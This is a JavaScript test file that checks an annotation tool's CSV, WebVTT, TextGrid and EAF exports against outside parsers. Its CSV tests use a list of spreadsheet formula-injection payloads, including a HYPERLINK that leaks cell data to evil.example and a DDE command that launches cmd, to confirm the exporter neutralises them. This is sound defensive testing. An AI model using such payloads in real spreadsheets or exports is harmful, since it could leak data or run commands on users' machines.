// SPDX-License-Identifier: MIT
// Exports checked by the tools that read them: spreadsheets' CSV dialect (Python's csv reader),
// WebVTT by the W3C parser and our importer, TextGrid by Praat itself, EAF by xmllint against
// ELAN's EAF 3.0 schema. Both paths are used: the functions the element's exportAs calls, and
// scripts/export on an output manifest.
import { before, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
import { createRequire } from 'node:module';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import webvtt from 'webvtt-parser';
import { EXPORTS, toCsv, toEaf, toTextGrid, toWebVtt } from '../../web/src/exports.js';
import { fromEaf, fromWebVtt } from '../../scripts/lib/imports.mjs';

const run = promisify(execFile);
const root = fileURLToPath(new URL('../..', import.meta.url));
const schema = fileURLToPath(new URL('EAFv3.0.xsd', import.meta.url));
const entities = createRequire(import.meta.url)('webvtt-parser/html-entities.json');

before(async () => {
  for (const [tool, pkg] of [['praat', 'praat'], ['xmllint', 'libxml2-utils'], ['python3', 'python3']]) {
    await run(tool, ['--version']).catch((e) => { throw new Error(`${tool} reads the exports back here: install the Debian package ${pkg} (scripts/setup does) (${e.message})`); });
  }
});

async function tempDir(t) {
  const dir = await mkdtemp(path.join(os.tmpdir(), 'avseg-exports-'));
  t.after(() => rm(dir, { recursive: true, force: true }));
  return dir;
}

/** An output manifest line as a local run writes it: one raw answer per worker. */
const manifestLine = (media, answers) => ({
  'source-ref': media,
  calls: { annotationsFromAllWorkers: answers.map(([workerId, doc]) => ({ workerId, annotationData: { content: JSON.stringify({ annotations: JSON.stringify(doc) }) } })) },
  'calls-metadata': { job_name: 'calls', type: 'groundTruth/custom' },
});

async function exportManifest(dir, lines, args) {
  await writeFile(path.join(dir, 'output.manifest'), lines.map((l) => `${JSON.stringify(l)}\n`).join(''));
  await run(process.execPath, [path.join(root, 'scripts/export'), path.join(dir, 'output.manifest'), '--out', path.join(dir, 'out'), ...args]);
  return path.join(dir, 'out');
}

// ---- CSV ----

/** Rows as spreadsheets' CSV dialect reads them (Python's csv module, RFC 4180 with quoting). */
async function readCsv(file) {
  const { stdout } = await run('python3', ['-c', 'import csv, json, sys\nprint(json.dumps(list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))))', file]);
  return JSON.parse(stdout);
}

const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '\uFF1D1+1', "'quoted already"];
const csvDoc = (texts, extra = {}) => ({
  format: 'avseg.annotation', version: 1, timebase: { rate: 1000, frames: 100000 }, media: { url: 'call.wav' },
  tracks: [{ id: 't1', category: 'speaker', tag: '=Customer' }],
  segments: texts.map((text, i) => ({ id: `s${i + 1}`, track: 't1', start: 1000 * i + 250, end: 1000 * i + 750, fields: { text, ...extra } })),
  classifications: {},
});

test('CSV: every cell of annotators\' text that a spreadsheet would take for a formula starts with a quote; numbers stay numbers', async (t) => {
  const dir = await tempDir(t);
  const texts = [...hostile, 'plain text', 'a; b, "c"\nd'];
  const csv = toCsv(csvDoc(texts, { naturalness: -3 }), { segmentFields: [{ name: 'text', type: 'text' }, { name: 'naturalness', type: 'rating', min: -5, max: 5 }] });
  await writeFile(path.join(dir, 'a.csv'), csv);
  const [head, ...rows] = await readCsv(path.join(dir, 'a.csv'));
  assert.deepEqual(head, ['media', 'category', 'tag', 'start', 'end', 'start_position', 'end_position', 'rate', 'text', 'naturalness']);
  assert.equal(rows.length, texts.length);
  rows.forEach((row, i) => {
    assert.equal(row[2], "'=Customer");
    assert.equal(row[8], i < hostile.length ? `'${texts[i]}` : texts[i]);
    assert.deepEqual(row.slice(3, 8).map(Number), [i + 0.25, i + 0.75, 1000 * i + 250, 1000 * i + 750, 1000]);
    assert.equal(row[9], '-3');
  });
  // The numbers we write are bare (a spreadsheet reads them as numbers), the neutralised text quoted.
  const lines = csv.split('\r\n');
  assert.match(lines[3], /^call\.wav,speaker,"'=Customer",2\.25,2\.75,2250,2750,1000,"'-2\+3",-3$/);
  assert.match(lines[7], /^call\.wav,speaker,"'=Customer",6\.25,6\.75,6250,6750,1000,"'＝1\+1",-3$/);
});

test('CSV from scripts/export: hostile text neutralised, and answers with different fields keep their own columns', async (t) => {
  const dir = await tempDir(t);
  const a = csvDoc(['@cmd'], { emotion: '=Sad' });
  const b = csvDoc(['fine'], { naturalness: 4 });
  const out = await exportManifest(dir, [manifestLine('-call.wav', [['local.ada', a], ['local.bob', b]])], ['--format', 'csv']);
  const [head, ...rows] = await readCsv(path.join(out, 'annotations.csv'));
  assert.deepEqual(head, ['media', 'item', 'worker', 'category', 'tag', 'start', 'end', 'start_position', 'end_position', 'rate', 'text', 'emotion', 'naturalness']);
  assert.deepEqual(rows, [
    ["'-call.wav", '0', 'local.ada', 'speaker', "'=Customer", '0.25', '0.75', '250', '750', '1000', "'@cmd", "'=Sad", ''],
    ["'-call.wav", '0', 'local.bob', 'speaker', "'=Customer", '0.25', '0.75', '250', '750', '1000', 'fine', '', '4'],
  ]);
});

// ---- WebVTT ----

/** Cues as the W3C parser reads them: times, the voice and the text with its escapes decoded. */
function w3cCues(text) {
  const tree = new webvtt.WebVTTParser(entities).parse(text);
  assert.deepEqual(tree.errors, [], 'the W3C parser finds no error');
  const plain = (node) => (node.type === 'text' ? node.value : (node.children ?? []).map(plain).join(''));
  return tree.cues.map((c) => ({ start: c.startTime, end: c.endTime, voice: c.tree.children.find((n) => n.name === 'v')?.value, text: plain(c.tree) }));
}

test('WebVTT: text with blank lines and "-->" makes one valid cue each, read back the same by the W3C parser and our importer', () => {
  const texts = [
    'First line\n\nafter a blank line\n\n\nthree blanks --> not a timing line',
    '\nstarts blank, ends blank\n',
    'Windows\r\nlines\r\n\r\nend',
    'a <b>tag</b> & an arrow -->\n   \n\ttab line',
  ];
  // Blank (or blank-looking) lines become one no-break space each: doc/exports.md.
  const expected = [
    'First line\n\u00A0\nafter a blank line\n\u00A0\n\u00A0\nthree blanks --> not a timing line',
    '\u00A0\nstarts blank, ends blank\n\u00A0',
    'Windows\nlines\n\u00A0\nend',
    'a <b>tag</b> & an arrow -->\n\u00A0\n\ttab line',
  ];
  const doc = {
    format: 'avseg.annotation', version: 1, timebase: { rate: 1000, frames: 20000 },
    tracks: [{ id: 't1', category: 'speaker', tag: 'Señora' }, { id: 't2', category: 'speaker', tag: 'Representative' }],
    segments: texts.map((text, i) => ({ id: `s${i + 1}`, track: `t${(i % 2) + 1}`, start: 1000 + 2000 * i, end: 2500 + 2000 * i, fields: { text } })),
  };
  const vtt = toWebVtt(doc, { segmentFields: [{ name: 'text', type: 'text' }] });
  assert.equal(EXPORTS.vtt.write(doc, {}), vtt);
  const want = texts.map((_, i) => ({ start: 1 + 2 * i, end: 2.5 + 2 * i, voice: i % 2 ? 'Representative' : 'Señora', text: expected[i] }));
  assert.deepEqual(w3cCues(vtt), want);
  const ours = fromWebVtt(vtt, { rate: 1000 });
  assert.deepEqual(ours.segments.map((s) => ({ start: s.start / 1000, end: s.end / 1000, voice: ours.tracks.find((x) => x.id === s.track).tag, text: s.fields.text })), want);
});

// ---- Praat TextGrid ----

const DUMP = `form Dump
  sentence File x.TextGrid
endform
Read from file: file$
tiers = Get number of tiers
for t to tiers
  name$ = Get tier name: t
  n = Get number of intervals: t
  appendInfoLine: "tier", tab$, name$, tab$, n
  for i to n
    a = Get start time of interval: t, i
    b = Get end time of interval: t, i
    label$ = Get label of interval: t, i
    label$ = replace$(replace$(replace$(label$, "\\", "\\\\", 0), newline$, "\\n", 0), tab$, "\\t", 0)
    appendInfoLine: fixed$(a, 12), tab$, fixed$(b, 12), tab$, label$
  endfor
endfor
`;

/** Every tier and interval of a TextGrid as Praat reads it: [{name, intervals: [[start, end, label]]}]. */
async function praatTiers(dir, textGrid) {
  await writeFile(path.join(dir, 'dump.praat'), DUMP);
  await writeFile(path.join(dir, 'x.TextGrid'), textGrid);
  const { stdout } = await run('praat', ['--run', path.join(dir, 'dump.praat'), path.join(dir, 'x.TextGrid')], { maxBuffer: 1 << 26 });
  const tiers = [];
  for (const line of stdout.split('\n').filter(Boolean)) {
    const cols = line.split('\t');
    if (cols[0] === 'tier') tiers.push({ name: cols[1], count: Number(cols[2]), intervals: [] });
    else tiers.at(-1).intervals.push([Number(cols[0]), Number(cols[1]), cols[2].replace(/\\(.)/g, (_, c) => ({ n: '\n', t: '\t' })[c] ?? c)]);
  }
  tiers.forEach((tier) => assert.equal(tier.intervals.length, tier.count));
  return tiers.map(({ name, intervals }) => ({ name, intervals }));
}

function assertTiers(actual, expected) {
  assert.deepEqual(actual.map((x) => x.name), expected.map((x) => x.name));
  actual.forEach((tier, k) => {
    assert.deepEqual(tier.intervals.map((x) => x[2]), expected[k].intervals.map((x) => x[2]), `labels of tier ${tier.name}`);
    tier.intervals.forEach(([a, b], i) => {
      const [ea, eb] = expected[k].intervals[i];
      assert.ok(Math.abs(a - ea) <= 1e-9 && Math.abs(b - eb) <= 1e-9, `${tier.name} interval ${i + 1}: ${a}-${b}, expected ${ea}-${eb}`);
    });
  });
}

test('Praat reads every tier back with each segment\'s times and label: text, quotes and non-ASCII, answers without text, overlaps', async (t) => {
  const dir = await tempDir(t);
  const R = 48000;
  const config = { categories: { speaker: ['Señora "Q"', 'Representative'] }, segmentFields: [
    { name: 'text', type: 'text' }, { name: 'emotion', type: 'choice', options: ['Sad', 'Neutral'] },
    { name: 'issues', type: 'multi', options: ['skipped word', 'wrong stress'] }, { name: 'naturalness', type: 'rating', min: 1, max: 5 }] };
  const ipa = 'Ça va? "oui" — ɪˈpa ə 日本語 😀\nsecond "line"';
  const doc = {
    format: 'avseg.annotation', version: 1, timebase: { rate: R, frames: 10 * R },
    tracks: [{ id: 't1', category: 'speaker', tag: 'Señora "Q"' }, { id: 't2', category: 'speaker', tag: 'Representative' }],
    segments: [
      { id: 's1', track: 't1', start: 24000, end: 60000, fields: { text: ipa } },
      { id: 's2', track: 't1', start: 96000, end: 150001, fields: { text: 'He said ""hi"" & left', emotion: 'Sad' } },
      { id: 's3', track: 't1', start: 120000, end: 200000, fields: { text: 'overlapping' } },
      { id: 's4', track: 't2', start: 48000, end: 72000, fields: { naturalness: 4, emotion: 'Sad' } },
      { id: 's5', track: 't2', start: 72000, end: 96000, fields: { naturalness: 2, issues: ['skipped word', 'wrong stress'] } },
      { id: 's6', track: 't2', start: 300000, end: 310000, fields: {} },
      { id: 's7', track: 't2', start: 310000, end: 320000, fields: { text: '  ', emotion: 'Neutral' } },
    ],
  };
  const s = (pos) => pos / R;
  assertTiers(await praatTiers(dir, toTextGrid(doc, config)), [
    { name: 'speaker: Señora "Q"', intervals: [[0, 0.5, ''], [0.5, 1.25, ipa], [1.25, 2, ''], [2, s(150001), 'He said ""hi"" & left'], [s(150001), 10, '']] },
    { name: 'speaker: Señora "Q" (2)', intervals: [[0, 2.5, ''], [2.5, s(200000), 'overlapping'], [s(200000), 10, '']] },
    { name: 'speaker: Representative', intervals: [[0, 1, ''], [1, 1.5, 'emotion: Sad; naturalness: 4'], [1.5, 2, 'issues: skipped word, wrong stress; naturalness: 2'],
      [2, 6.25, ''], [6.25, s(310000), 'Representative'], [s(310000), s(320000), 'emotion: Neutral'], [s(320000), 10, '']] },
  ]);
});

test('a TextGrid of 200,000 segments is written, and Praat reads every one', async (t) => {
  const dir = await tempDir(t);
  const N = 200000;
  const segments = [];
  for (let i = 0; i < N; i++) segments.push({ id: `s${i + 1}`, track: `t${(i % 2) + 1}`, start: i * 480 + (i % 2) * 100, end: i * 480 + 300 + (i % 7), fields: i % 3 ? { text: `w${i}` } : { naturalness: i % 5 } });
  const doc = { format: 'avseg.annotation', version: 1, timebase: { rate: 48000, frames: N * 480 }, tracks: [{ id: 't1', category: 'speaker', tag: 'A' }, { id: 't2', category: 'speaker', tag: 'B' }], segments };
  const text = toTextGrid(doc, {});
  await writeFile(path.join(dir, 'big.TextGrid'), text);
  // Praat's own table of the labelled intervals (one loop per interval in a script would take seconds).
  await writeFile(path.join(dir, 'table.praat'), 'form Table\n  sentence File x.TextGrid\n  sentence Out out.tsv\nendform\nRead from file: file$\ntiers = Get number of tiers\nfor t to tiers\n  n = Get number of intervals: t\n  appendInfoLine: n\nendfor\nDown to Table: "no", 9, "yes", "no"\nSave as tab-separated file: out$\n');
  const { stdout } = await run('praat', ['--run', path.join(dir, 'table.praat'), path.join(dir, 'big.TextGrid'), path.join(dir, 'out.tsv')]);
  // Each track: its 100,000 segments, the gap before each but the first one's at 0, and the tail.
  assert.deepEqual(stdout.trim().split('\n').map(Number), [N, N + 1]);
  const rows = (await readFile(path.join(dir, 'out.tsv'), 'utf8')).trim().split('\n').slice(1).map((l) => l.split('\t'));
  assert.equal(rows.length, N);
  const byStart = [...segments].sort((a, b) => a.start - b.start);
  rows.forEach(([tmin, tier, label, tmax], i) => {
    const seg = byStart[i];
    const want = seg.fields.text ?? `naturalness: ${seg.fields.naturalness}`;
    if (tier !== `speaker: ${seg.track === 't1' ? 'A' : 'B'}` || label !== want || Math.abs(Number(tmin) - seg.start / 48000) > 2e-9 || Math.abs(Number(tmax) - seg.end / 48000) > 2e-9) {
      assert.fail(`row ${i + 1}: ${tier} ${tmin}-${tmax} "${label}", expected segment ${seg.id} (${seg.start / 48000}-${seg.end / 48000} "${want}")`);
    }
  });
});

// ---- ELAN EAF ----

/** The label config a template declares (its <script id="avseg-config">). */
async function templateConfig(name) {
  const html = await readFile(path.join(root, 'template', name), 'utf8');
  return JSON.parse(/<script[^>]*id="avseg-config"[^>]*>([\s\S]*?)<\/script>/.exec(html)[1]);
}

async function assertValidEaf(file) {
  const { stderr } = await run('xmllint', ['--noout', '--schema', schema, file]).catch((e) => assert.fail(`${path.basename(file)} fails ELAN's schema:\n${e.stderr}`));
  assert.match(stderr, /validates/);
}

/** A document on a template's categories, with what EAF must escape or cannot carry as such. */
function eafDoc(config) {
  const [first, second] = Object.entries(config.categories);
  return {
    format: 'avseg.annotation', version: 1, timebase: { rate: 48000, frames: 480000 }, media: { url: 's3://bucket/calls/call 0042 [a]#1.wav' },
    tracks: [{ id: 't1', category: first[0], tag: first[1][0] }, { id: 't2', category: second[0], tag: second[1].at(-1) }, { id: 't3', category: 'noise', tag: 'Door "slam" <b>' }],
    segments: [
      { id: 's1', track: 't1', start: 24000, end: 72000, fields: { text: 'Tab\there & <there>\r\nbell\u0007 😀 "quoted" \'single\'' } },
      { id: 's2', track: 't1', start: 48000, end: 96000, fields: { text: 'overlapping' } },
      { id: 's3', track: 't2', start: 96000, end: 120000, fields: { emotion: 'Sad' } },
      { id: 's4', track: 't3', start: 0, end: 480000, fields: {} },
    ],
  };
}

test('a segment of one sample, one ending with the media and one sharing a sub-millisecond boundary stay spans in EAF and WebVTT, with every kind of line break, emoji and RTL text', async (t) => {
  const dir = await tempDir(t);
  const R = 48000;
  const frames = 3 * R;
  const tag = 'A "quoted" <&> ! [1]\ttab';
  const lines = 'crlf\r\nline\rcr\u2028ls\u2029ps\nlf';
  const doc = {
    format: 'avseg.annotation', version: 1, timebase: { rate: R, frames }, media: { url: '/data/a b.wav' },
    tracks: [{ id: 't1', category: 'speaker', tag }, { id: 't2', category: 'emo', tag: 'ב' }],
    segments: [
      { id: 's1', track: 't1', start: 0, end: 1, fields: { text: 'one sample' } },
      { id: 's2', track: 't1', start: 1000, end: 1001, fields: { text: lines } },
      { id: 's3', track: 't1', start: 48010, end: 48020, fields: { text: 'tiny' } },
      { id: 's4', track: 't1', start: 48020, end: 48100, fields: { text: 'right after' } },
      { id: 's5', track: 't1', start: frames - 1, end: frames, fields: { text: '😀 𝄞 emoji' } },
      { id: 's6', track: 't2', start: 2000, end: frames, fields: { text: 'שלום עולם' } },
    ],
    classifications: {},
  };
  // EAF: valid, and every segment a span of whole milliseconds around its samples.
  const eaf = toEaf(doc);
  await writeFile(path.join(dir, 'edges.eaf'), eaf);
  await assertValidEaf(path.join(dir, 'edges.eaf'));
  const back = fromEaf(eaf, { rate: 1000 });
  const tier = (seg) => back.tracks.find((x) => x.id === seg.track);
  assert.deepEqual(back.segments.map((seg) => [tier(seg).tag, seg.start, seg.end, seg.fields.text]), [
    [tag, 0, 1, 'one sample'],
    [tag, 20, 21, 'crlf\r\nline\rcr\u2028ls\u2029ps\nlf'],
    ['ב', 42, 3000, 'שלום עולם'],
    [tag, 1000, 1001, 'tiny'],
    [`${tag} (2)`, 1000, 1002, 'right after'],
    [tag, 2999, 3000, '😀 𝄞 emoji'],
  ]);
  // WebVTT: no cue the W3C parser flags, none a point our importer would refuse.
  const vtt = toWebVtt(doc);
  const inOrder = (list) => list.sort((a, b) => a[0] - b[0] || a[1] - b[1]); // the W3C parser puts a later end first
  const cues = inOrder(w3cCues(vtt).map((c) => [c.start, c.end, c.text]));
  assert.deepEqual(cues, [[0, 0.001, 'one sample'], [0.02, 0.021, 'crlf\nline\ncr\u2028ls\u2029ps\nlf'], [0.042, 3, 'שלום עולם'], [1, 1.001, 'tiny'], [1, 1.002, 'right after'], [2.999, 3, '😀 𝄞 emoji']]);
  assert.deepEqual(inOrder(fromWebVtt(vtt, { rate: R }).segments.map((seg) => [seg.start / R, seg.end / R, seg.fields.text])), cues);
});

test('EAF tier ids stay distinct, as ELAN\'s schema requires, when an overflow tier or a name holding ": " would repeat one', async (t) => {
  const dir = await tempDir(t);
  const doc = {
    format: 'avseg.annotation', version: 1, timebase: { rate: 1000, frames: 10000 },
    tracks: [{ id: 't1', category: 'speaker', tag: 'A' }, { id: 't2', category: 'speaker', tag: 'A (2)' }, { id: 't3', category: 'a: b', tag: 'c' }, { id: 't4', category: 'a', tag: 'b: c' }],
    segments: [
      { id: 's1', track: 't1', start: 0, end: 10, fields: { text: 'a' } },
      { id: 's2', track: 't1', start: 5, end: 15, fields: { text: 'overlaps a' } },
      { id: 's3', track: 't2', start: 0, end: 10, fields: { text: 'b' } },
      { id: 's4', track: 't3', start: 20, end: 30, fields: { text: 'c' } },
      { id: 's5', track: 't4', start: 40, end: 50, fields: { text: 'd' } },
    ],
  };
  const eaf = toEaf(doc);
  await writeFile(path.join(dir, 'names.eaf'), eaf);
  await assertValidEaf(path.join(dir, 'names.eaf'));
  assert.deepEqual([...eaf.matchAll(/TIER_ID="([^"]*)"/g)].map((m) => m[1]), ['speaker: A', 'speaker: A (2)', 'speaker: A (2) (2)', 'a: b: c', 'a: b: c (2)']);
  assert.deepEqual(fromEaf(eaf, { rate: 1000 }).segments.map((seg) => seg.fields.text), ['a', 'b', 'overlaps a', 'c', 'd']);
});

for (const name of ['audio.liquid.html', 'video.liquid.html']) {
  test(`EAF on ${name}'s own config (object-form categories) is valid against ELAN's EAF 3.0 schema`, async (t) => {
    const dir = await tempDir(t);
    const config = await templateConfig(name);
    assert.ok(!Array.isArray(config.categories), 'the template declares its categories in the object form');
    const doc = eafDoc(config);
    const eaf = toEaf(doc, config);
    await writeFile(path.join(dir, 'a.eaf'), eaf);
    await assertValidEaf(path.join(dir, 'a.eaf'));
    assert.match(eaf, /<MEDIA_DESCRIPTOR MEDIA_URL="s3:\/\/bucket\/calls\/call%200042%20%5Ba%5D%231\.wav" MIME_TYPE="audio\/x-wav"\/>/);
    // Every tag of the template's categories is in a controlled vocabulary, and the undeclared one too.
    for (const [category, tags] of [...Object.entries(config.categories), ['noise', ['Door "slam" <b>']]]) {
      const cv = new RegExp(`<CONTROLLED_VOCABULARY CV_ID="${category}-tags">([\\s\\S]*?)</CONTROLLED_VOCABULARY>`).exec(eaf)?.[1];
      assert.ok(cv, `a vocabulary for ${category}`);
      assert.deepEqual([...cv.matchAll(/<CVE_VALUE LANG_REF="und">([^<]*)<\/CVE_VALUE>/g)].map((m) => m[1]), tags.map((x) => x.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;')));
    }
    const back = fromEaf(eaf, { rate: 48000 });
    const tier = (s) => back.tracks.find((x) => x.id === s.track);
    assert.deepEqual(back.segments.map((s) => [`${tier(s).category}: ${tier(s).tag}`, s.start, s.end, s.fields.text]), [
      ['noise: Door "slam" <b>', 0, 480000, 'Door "slam" <b>'],
      [`${doc.tracks[0].category}: ${doc.tracks[0].tag}`, 24000, 72000, 'Tab\there & <there>\r\nbell\uFFFD 😀 "quoted" \'single\''],
      [`${doc.tracks[0].category}: ${doc.tracks[0].tag} (2)`, 48000, 96000, 'overlapping'],
      [`${doc.tracks[1].category}: ${doc.tracks[1].tag}`, 96000, 120000, 'emotion: Sad'],
    ]);
  });
}

test('EAF with an array-form config, or with none, is valid against ELAN\'s schema', async (t) => {
  const dir = await tempDir(t);
  const config = { categories: [{ name: 'speaker', tags: ['Customer', 'Representative'], label: 'Speaker' }], segmentFields: [{ name: 'transcription', type: 'text' }] };
  const doc = eafDoc({ categories: { speaker: ['Customer'], language: ['English'] } });
  for (const [name, cfg] of [['array.eaf', config], ['none.eaf', undefined]]) {
    await writeFile(path.join(dir, name), toEaf(doc, cfg, { media: '/data/calls/Ça va.flac' }));
    await assertValidEaf(path.join(dir, name));
  }
  assert.match(await readFile(path.join(dir, 'none.eaf'), 'utf8'), /MEDIA_URL="file:\/\/\/data\/calls\/%C3%87a%20va\.flac" MIME_TYPE="audio\/flac"/);
});

test('scripts/export writes EAF with a template as its config, valid against ELAN\'s schema', async (t) => {
  const dir = await tempDir(t);
  const doc = eafDoc(await templateConfig('audio.liquid.html'));
  const out = await exportManifest(dir, [manifestLine('calls/call 1.mp3', [['local.ada', doc]])], ['--format', 'eaf', '--config', path.join(root, 'template/audio.liquid.html')]);
  const files = await readdir(out);
  assert.deepEqual(files, ['0001-call 1-local.ada.eaf']);
  await assertValidEaf(path.join(out, files[0]));
  const eaf = await readFile(path.join(out, files[0]), 'utf8');
  assert.match(eaf, /MEDIA_URL="calls\/call%201\.mp3" MIME_TYPE="audio\/mpeg"/);
  assert.match(eaf, /<CVE_VALUE LANG_REF="und">Spanish<\/CVE_VALUE>/);
});

test('scripts/export writes one file per answer even when worker ids differ only in characters a file name cannot hold', async (t) => {
  const dir = await tempDir(t);
  const out = await exportManifest(dir, [manifestLine('a.wav', [['team/ada', csvDoc(['first'])], ['team_ada', csvDoc(['second'])], ['Team_Ada', csvDoc(['third'])]])], ['--format', 'vtt']);
  const files = (await readdir(out)).sort();
  assert.deepEqual(files, ['0001-a-Team_Ada-3.vtt', '0001-a-team_ada-2.vtt', '0001-a-team_ada.vtt'].sort());
  const texts = await Promise.all(files.map((f) => readFile(path.join(out, f), 'utf8')));
  assert.deepEqual(texts.map((x) => /<v [^>]*>(.*)/.exec(x)[1]).sort(), ['first', 'second', 'third']);
});

test('scripts/export writes every answer it can read and names each one it cannot', async (t) => {
  const dir = await tempDir(t);
  const good = csvDoc(['fine']);
  const empty = { ...csvDoc([]), timebase: { rate: 1000, frames: 0 } };
  const broken = { 'source-ref': 'b.wav', calls: { annotationsFromAllWorkers: [{ workerId: 'local.eve', annotationData: { content: '{"annotations": "{not json' } }] }, 'calls-metadata': {} };
  await writeFile(path.join(dir, 'output.manifest'), [manifestLine('a.wav', [['local.ada', good], ['local.bob', empty]]), broken].map((l) => `${JSON.stringify(l)}\n`).join(''));
  const failed = await run(process.execPath, [path.join(root, 'scripts/export'), path.join(dir, 'output.manifest'), '--format', 'textgrid', '--out', path.join(dir, 'out')]).then(() => null, (e) => e);
  assert.equal(failed?.code, 1, 'the export fails');
  assert.match(failed.stdout, /export: 1 file in /);
  assert.match(failed.stderr, /not exported: line 1, local\.bob: a TextGrid needs a length/);
  assert.match(failed.stderr, /not exported: line 2, local\.eve: the answer is not JSON \(/);
  assert.deepEqual(await readdir(path.join(dir, 'out')), ['0001-a-local.ada.TextGrid']);
});
